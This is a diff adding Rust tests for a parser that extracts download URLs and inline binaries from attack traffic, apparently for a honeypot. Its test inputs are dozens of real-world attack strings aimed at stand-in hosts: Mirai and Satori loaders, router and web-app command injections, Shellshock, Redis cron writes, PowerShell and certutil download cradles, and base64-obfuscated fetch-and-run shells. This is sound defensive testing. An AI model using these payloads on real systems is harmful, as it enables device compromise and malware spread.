+        check(b"curl -O http://198.51.100.1/k.bin > /dev/null", &["http 198.51.100.1 - - - /k.bin k.bin"]);
+        check(b"curl -u bob:s3cret ftp://198.51.100.1/pub/a.bin -o a", &["ftp 198.51.100.1 - bob s3cret pub/a.bin a"]);
+        check(b"(wget -O - http://x.example || curl http://x.example) | sh", &["http x.example - - - / index.html"]);
+        check(b"fetch -o /tmp/f http://x.example/f.sh", &["http x.example - - - /f.sh f"]);
+        check(b"lwp-download http://x.example/l.pl /tmp/ll", &["http x.example - - - /l.pl ll"]);
+        check(
+            b"wget ftp://user:p%40ss@192.0.2.4:2121/dir/a%2Bb.bin",
+            &["ftp 192.0.2.4 2121 user p@ss dir/a+b.bin a+b.bin"],
+        );
+        check(b"wget 198.51.100.23/bins.sh", &["http 198.51.100.23 - - - /bins.sh bins.sh"]);
+        check(b"curl -o x mal.example.com:81/p", &["http mal.example.com 81 - - /p x"]);
+        check(b"wget tftp://192.0.2.3/boot.img", &["tftp 192.0.2.3 - - - boot.img boot.img"]);
+        // Satori's busybox wget with TFTP options.
+        check(b"$(/bin/busybox wget -g 45.0.0.1 -l /tmp/kh -r /okiru.mips ;/bin/busybox chmod 777 * /tmp/kh; /tmp/kh huawei.rep)", &[
+            "tftp 45.0.0.1 - - - /okiru.mips kh",
+        ]);
+    }
+
+    #[test]
+    fn mirai_loader() {
+        check(
+            b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
+            &[
+                "http 192.0.2.10 - - - /bins.sh bins.sh",
+                "tftp 192.0.2.10 - - - tftp1.sh tftp1.sh",
+                "tftp 192.0.2.10 - - - tftp2.sh tftp2.sh",
+                "ftp 192.0.2.10 21 anonymous anonymous ftp1.sh ftp1.sh",
+            ],
+        );
+    }
+
+    #[test]
+    fn http_injections() {
+        check(b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 5.6.7.8\r\nUser-Agent: Hello, world\r\n\r\n", &[
+            "http 1.2.3.4 - - - /jaws jaws",
+        ]);
+        check(b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.2:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", &[
+            "http 198.51.100.2 8088 - - /Mozi.m netgear",
+        ]);
+        check(b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.3/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n", &[
+            "http 198.51.100.3 - - - /t.sh t.sh",
+        ]);
+        check(b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.4:8080/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0", &[
+            "http 198.51.100.4 8080 - - /gpon gpon",
+        ]);
+        check(b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"application-id\":\"application_1\",\"application-name\":\"get-shell\",\"am-container-spec\":{\"commands\":{\"command\":\"wget -q -O - http:\\/\\/198.51.100.5\\/y.sh \\u0026\\u0026 sh y.sh\"}},\"application-type\":\"YARN\"}", &[
+            "http 198.51.100.5 - - - /y.sh y.sh",
+        ]);
+        check(b"POST /HNAP1/ HTTP/1.0\r\nContent-Type: text/xml; charset=\"utf-8\"\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://198.51.100.6/h.mips && chmod +x h.mips && ./h.mips`\r\n\r\n", &[
+            "http 198.51.100.6 - - - /h.mips h.mips",
+        ]);
+        check(b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.7/sb;curl -O http://198.51.100.7/sb;perl sb\"\r\n\r\n", &[
+            "http 198.51.100.7 - - - /sb sb",
+        ]);
+        check(
+            b"GET /x?c=$(wget${IFS}http://198.51.100.8/i${IFS}-O${IFS}/tmp/i) HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.8 - - - /i i"],
+        );
+        check(b"cd$IFS/tmp;wget$IFS$9http://198.51.100.8/j;sh$IFS/tmp/j", &["http 198.51.100.8 - - - /j j"]);
+        check(b"POST /cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nip=1.1.1.1 %7C wget http%3A%2F%2F198.51.100.9%2Fq -O- %7C sh", &["http 198.51.100.9 - - - /q q"]);
+        check(b"<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.10 -l /tmp/binary -r /okiru.mips; /tmp/binary huawei.rep)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>", &[
+            "tftp 198.51.100.10 - - - /okiru.mips binary",
+        ]);
+        check(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\nReferer: http://www.example.com/\r\n\r\n", &[]);
+        // Redis cron line.
+        check(
+            b"*3\r\n$3\r\nset\r\n$1\r\n1\r\n$56\r\n\n\n*/1 * * * * curl -fsSL http://198.51.100.11/c.sh | sh\n\n\r\n",
+            &["http 198.51.100.11 - - - /c.sh c.sh"],
+        );
+        // Percent signs are not decoded outside URL-encoded contexts.
+        check(b"wget http://198.51.100.12/a%41b+c", &["http 198.51.100.12 - - - /a%41b+c a%41b+c"]);
+        check(b"wget http://198.51.100.12/a%20b", &["http 198.51.100.12 - - - /a a"]);
+        // Absolute-form request target and bare URLs count (SPEC §8.4).
+        check(b"GET http://proxy.example/x.txt HTTP/1.1\r\n\r\n", &["http proxy.example - - - /x.txt x.txt"]);
+        check(
+            b"see (http://bare.example/p.exe), and ftp://192.0.2.9/q.",
+            &["http bare.example - - - /p.exe p.exe", "ftp 192.0.2.9 - - - q q"],
+        );
+    }
+
+    /// More real-world forms: (attack with `\r\n` written literally, expected).
+    const FIELD: &[(&str, &[&str])] = &[
+        ("GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://10.0.0.1/mips;${IFS}sh${IFS}/var/tmp/mips HTTP/1.1\r\n\r\n",
+            &["http 10.0.0.1 - - - /mips mips"]),
+        ("POST /tmUnblock.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F198.51.100.1%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl+linksys%60&action=&ttcp_num=2",
+            &["http 198.51.100.1 - - - /mpsl mpsl"]),
+        ("GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://198.51.100.2/ar;sh${IFS}/tmp/ar&>r&&tar${IFS}/string.js HTTP/1.0\r\n\r\n",
+            &["http 198.51.100.2 - - - /ar ar"]),
+        ("POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewInternalClient>`cd /var; rm -rf nabirt; wget http://198.51.100.3/nabirt; chmod 777 nabirt; ./nabirt realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>",
+            &["http 198.51.100.3 - - - /nabirt nabirt"]),
+        ("POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget http://198.51.100.5/x -O /tmp/s;chmod 777 /tmp/s;/tmp/s&waninf=1_INTERNET_R_VID_154",
+            &["http 198.51.100.5 - - - /x s"]),
+        ("GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F198.51.100.6%2Fzero;sh%20zero;%22 HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.6 - - - /zero zero"]),
+        ("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n",
+            &["http 198.51.100.7 8080 - - /bins/mirai.arm dvrHelper"]),
+        ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system('wget http://198.51.100.10/p.sh -O- | sh'); ?>",
+            &["http 198.51.100.10 - - - /p.sh p.sh"]),
+        ("xp_cmdshell 'powershell -c \"(new-object System.Net.WebClient).DownloadFile(''http://198.51.100.12/a.exe'',''C:\\ProgramData\\a2.exe'')\"'",
+            &["http 198.51.100.12 - - - /a.exe a2.exe"]),
+        ("EXEC master..xp_cmdshell 'certutil -urlcache -split -f http://198.51.100.13/b.exe %TEMP%\\b2.exe'",
+            &["http 198.51.100.13 - - - /b.exe b2.exe"]),
+        ("cmd /c bitsadmin /transfer x http://198.51.100.14/c.exe %APPDATA%\\c2.exe&start %APPDATA%\\c2.exe",
+            &["http 198.51.100.14 - - - /c.exe c2.exe"]),
+        ("nohup $(curl -s http://198.51.100.17/k.sh || wget -q -O - http://198.51.100.17/k.sh) | bash > /dev/null 2>&1 &",
+            &["http 198.51.100.17 - - - /k.sh k.sh"]),
+        ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.51.100.18/t+-O-|sh`) HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.18 - - - /t t"]),
+        ("GET /shell?cd%20/tmp%20%7C%7C%20cd%20/var/run%3B%20wget%20http%3A//198.51.100.20/jaws.sh%3B%20chmod%20777%20jaws.sh%3B%20sh%20jaws.sh HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.20 - - - /jaws.sh jaws.sh"]),
+        ("echo \"d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMi9zLnNoIC1PIC90bXAvcy5zaA==\"|base64 -d|bash",
+            &["http 198.51.100.22 - - - /s.sh s.sh"]),
+        ("cd /tmp; busybox tftp -r mipsel -g 198.51.100.30 69; chmod 777 mipsel", &["tftp 198.51.100.30 69 - - mipsel mipsel"]),
+        ("python -c \"import urllib;urllib.urlretrieve('http://198.51.100.32/py','/tmp/py')\"", &["http 198.51.100.32 - - - /py py"]),
+        ("POST /x HTTP/1.1\r\n\r\n<cmd>cd /tmp &amp;&amp; wget http://198.51.100.36/h.sh &amp;&amp; sh h.sh</cmd>",
+            &["http 198.51.100.36 - - - /h.sh h.sh"]),
+        ("CMD.EXE /C \"echo open 198.51.100.39 21 >> c.txt && echo user hax0r pw >> c.txt && echo binary >> c.txt && echo get mal.exe >> c.txt && echo quit >> c.txt && ftp -n -s:c.txt && mal.exe\"",
+            &["ftp 198.51.100.39 21 hax0r pw mal.exe mal.exe"]),
+        ("GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=wget%20-qO-%20https://198.51.100.40:8443/s.sh%7Csh HTTP/1.1\r\n\r\n",
+            &["https 198.51.100.40 8443 - - /s.sh s.sh"]),
+        ("GET /${jndi:ldap://198.51.100.11:1389/Exploit} HTTP/1.1\r\n\r\n", &[]),
+        ("cd /tmp; wget bins.sh; wget 198.51.100.44", &["http 198.51.100.44 - - - / index.html"]),
+    ];
+
+    #[test]
+    fn field_forms() {
+        for (a, want) in FIELD {
+            check(a.replace("\\r\\n", "\r\n").as_bytes(), want);
+        }
+    }
+
+    #[test]
+    fn windows_downloaders() {
+        check(b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.20/a.ps1')\"", &[
+            "http 198.51.100.20 - - - /a.ps1 a.ps1",
+        ]);
+        check(b"powershell.exe (New-Object System.Net.WebClient).DownloadFile('http://198.51.100.20/b.exe','C:\\Users\\Public\\svc.exe');Start-Process 'C:\\Users\\Public\\svc.exe'", &[
+            "http 198.51.100.20 - - - /b.exe svc.exe",
+        ]);
+        check(
+            b"powershell Invoke-WebRequest -Uri http://198.51.100.20/c.exe -OutFile $env:TEMP\\c1.exe",
+            &["http 198.51.100.20 - - - /c.exe c1.exe"],
+        );
+        check(b"powershell iwr http://198.51.100.20/d.exe -outf d2.exe", &["http 198.51.100.20 - - - /d.exe d2.exe"]);
+        check(
+            b"Start-BitsTransfer -Source http://198.51.100.20/e.exe -Destination C:\\e2.exe",
+            &["http 198.51.100.20 - - - /e.exe e2.exe"],
+        );
+        check(
+            b"certutil.exe -urlcache -split -f http://198.51.100.20/f.exe c:\\f2.exe & c:\\f2.exe",
+            &["http 198.51.100.20 - - - /f.exe f2.exe"],
+        );
+        check(
+            b"bitsadmin /transfer job /download /priority high http://198.51.100.20/g.exe C:\\g2.exe",
+            &["http 198.51.100.20 - - - /g.exe g2.exe"],
+        );
+        // -EncodedCommand: base64 of UTF-16LE.
+        let ps = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.21/enc.ps1')";
+        let u16: Vec<u8> = ps.bytes().flat_map(|c| [c, 0]).collect();
+        for opt in ["-enc", "-EncodedCommand", "-e", "-ec"] {
+            let a = format!("powershell.exe -NoP -NonI -W Hidden {opt} {}", b64(&u16));
+            check(a.as_bytes(), &["http 198.51.100.21 - - - /enc.ps1 enc.ps1"]);
+        }
+    }
+
+    fn b64(data: &[u8]) -> String {
+        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut s = String::new();
+        for ch in data.chunks(3) {
+            let b = [ch[0], *ch.get(1).unwrap_or(&0), *ch.get(2).unwrap_or(&0)];
+            let v = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+            for k in 0..4 {
+                s.push(if k <= ch.len() { A[(v >> (18 - 6 * k)) as usize & 63] as char } else { '=' });
+            }
+        }
+        s
+    }
+
+    #[test]
+    fn encoded_shell_bodies() {
+        let body = "cd /tmp; wget http://198.51.100.30/b64.sh -O x; sh x";
+        check(
+            format!("echo {} | base64 -d | sh", b64(body.as_bytes())).as_bytes(),
+            &["http 198.51.100.30 - - - /b64.sh x"],
+        );
+        check(
+            format!("echo '{}'|base64 --decode|bash", b64(body.as_bytes())).as_bytes(),
+            &["http 198.51.100.30 - - - /b64.sh x"],
+        );
+        check(
+            format!("bash -c {{echo,{}}}|{{base64,-d}}|{{bash,-i}}", b64(body.as_bytes())).as_bytes(),
+            &["http 198.51.100.30 - - - /b64.sh x"],
+        );
+        check(
+            format!("sh -c \"$(echo {} | base64 -d)\"", b64(body.as_bytes())).as_bytes(),
+            &["http 198.51.100.30 - - - /b64.sh x"],
+        );
+        // Nested twice.
+        let inner = format!("echo {} | base64 -d | sh", b64(body.as_bytes()));
+        check(
+            format!("echo {}|base64 -d|sh", b64(inner.as_bytes())).as_bytes(),
+            &["http 198.51.100.30 - - - /b64.sh x"],
+        );
+        // printf hex body into a shell.
+        let hexed: String = "wget http://198.51.100.31/p".bytes().map(|b| format!("\\x{b:02x}")).collect();
+        check(format!("printf '{hexed}' | sh").as_bytes(), &["http 198.51.100.31 - - - /p p"]);
+        // Depth limit: five levels of base64 are not all unwrapped.
+        let mut s = "wget http://198.51.100.32/deep".to_string();
+        for _ in 0..5 {
+            s = format!("echo {}|base64 -d|sh", b64(s.as_bytes()));
+        }
+        check(s.as_bytes(), &[]);
+    }
+
+    #[test]
+    fn inline_files() {
+        let elf = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00(\x00\x01";
+        let mut a = Vec::new();
+        for (n, chunk) in elf.chunks(6).enumerate() {
+            let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
+            let op = if n == 0 { ">" } else { ">>" };
+            a.extend_from_slice(format!("/bin/busybox echo -ne '{hex}' {op} .s\r\n").as_bytes());
+        }
+        a.extend_from_slice(b"/bin/busybox chmod 777 .s; ./.s > dvrHelper\r\n");
+        let got = extract(&a);
+        assert_eq!(got.len(), 1, "{got:?}");
+        assert_eq!(got[0].scheme, Scheme::Inline);
+        assert_eq!(got[0].filename, ".s");
+        assert_eq!(got[0].data, elf);
+        assert_eq!(got[0].uri(), "inline:.s");
+        // printf with octal, and `>` truncating.
+        let got = extract(b"printf 'junk' > /tmp/b; printf '\\177ELF\\001' > /tmp/b; printf '\\x41' >> /tmp/b");
+        assert_eq!(got.len(), 1);
+        assert_eq!(got[0].data, b"\x7fELF\x01A");
+        // echo -e octal \0NNN and newline.
+        let got = extract(b"echo -e '\\0177ELF' >> x.bin");
+        assert_eq!(got[0].data, b"\x7fELF\n");
+        // Plain echo (FTP scripts, cron lines) and tiny writes are not inline files.
+        check(b"echo open 1.2.3.4 > s", &[]);
+        check(b"echo -ne '\\x01' > t", &[]);
+        check(b"echo -ne '\\x7f\\x45\\x4c\\x46' > /dev/null", &[]);
+    }
+
+    #[test]
+    fn order_dedup_and_cap() {
+        check(
+            b"tftp -i 192.0.2.1 GET a; wget http://192.0.2.2/b; tftp -i 192.0.2.1 GET a; curl http://192.0.2.2:80/b",
+            &["tftp 192.0.2.1 - - - a a", "http 192.0.2.2 - - - /b b"],
+        );
+        let many: String = (0..100).map(|i| format!("wget http://192.0.2.1/{i};")).collect();
+        let got = extract(many.as_bytes());
+        assert_eq!(got.len(), MAX_REQUESTS);
+        assert_eq!(got[0].path, "/0");
+        assert_eq!(got[31].path, "/31");
+    }
+
+    #[test]
+    fn hostile_inputs_bounded() {
+        check(b"wget http://", &[]);
+        check(b"wget http://:80/x http://[::1/x http://a:99999/ http://$(id)/x", &[]);
+        check(b"http://x.example:/a", &["http x.example - - - /a a"]);
+        // Adversarial 4 MiB inputs finish quickly.
+        let pieces: &[&[u8]] = &[
+            b"http://",
+            b"{",
+            b"{a,",
+            b"echo open 1.2.3.4>",
+            b"$(",
+            b"&#",
+            b"\\u00",
+            b"%",
+            b"ftp -i ",
+            b"tftp -i a GET ",
+            b"echo -ne '\\x7f' >> a",
+            b"|base64 -d|sh ",
+        ];
+        for p in pieces {
+            let big: Vec<u8> = p.iter().copied().cycle().take(MAX_INPUT + 10).collect();
+            let t = std::time::Instant::now();
+            let got = extract(&big);
+            assert!(got.len() <= MAX_REQUESTS);
+            assert!(
+                t.elapsed() < std::time::Duration::from_secs(20),
+                "{:?} took {:?}",
+                String::from_utf8_lossy(p),
+                t.elapsed()
+            );
+        }
+    }
+
+    fn invariants(got: &[Request]) {
+        assert!(got.len() <= MAX_REQUESTS);
+        for r in got {
+            if r.scheme == Scheme::Inline {
+                assert!(r.data.len() >= MIN_INLINE && !r.filename.is_empty());
+            } else {
+                assert!(!r.host.is_empty() && !r.path.is_empty() && !r.filename.is_empty(), "{r:?}");
+                assert!(r.data.is_empty());
+                assert_ne!(r.port, Some(0));
+                if matches!(r.scheme, Scheme::Http | Scheme::Https) {
+                    assert!(r.path.starts_with('/'));
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn no_panic_random_and_mutated() {
+        let seeds: &[&[u8]] = &[
+            b"cd /tmp; wget http://192.0.2.10/bins.sh -O x; tftp -g -r a 192.0.2.1; ftpget -u a -p b 1.2.3.4 l r",
+            b"echo open 1.2.3.4 21>>ik &echo user 1 1>>ik &echo get a.exe>>ik &ftp -n -v -s:ik",
+            b"GET /shell?cd+/tmp;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n",
+            b"powershell -enc SQBFAFgA; echo -ne '\\x7f\\x45\\x4c\\x46' >> .s; echo Zm9v|base64 -d|sh",
+            b"{echo,d2dldCBodHRwOi8vMS4yLjMuNC94}|{base64,-d}|{bash,-i} certutil -urlcache -f http://[::1]:8/x y",
+        ];
+        let mut rng = XorShift(0xe47_2ac7);
+        for round in 0..4000 {
+            let mut v = seeds[round % seeds.len()].to_vec();
+            for _ in 0..rng.below(8) {
+                let at = rng.below(v.len() + 1);
+                match rng.below(4) {
+                    0 if at < v.len() => v[at] = rng.next() as u8,
+                    1 if at < v.len() => {
+                        v.remove(at);
+                    }
+                    2 => v.insert(at, b" ;|&>'\"$(){}\\%=:/@[]x0"[rng.below(22)]),
+                    _ => {
+                        let from = rng.below(v.len());
+                        let piece = v[from..(from + rng.below(16)).min(v.len())].to_vec();
+                        v.splice(at..at, piece);
+                    }
+                }
+            }
+            if round % 7 == 0 {
+                v = (0..rng.below(200)).map(|_| rng.next() as u8).collect();
+            }
+            invariants(&extract(&v));
+        }
+    }
 }
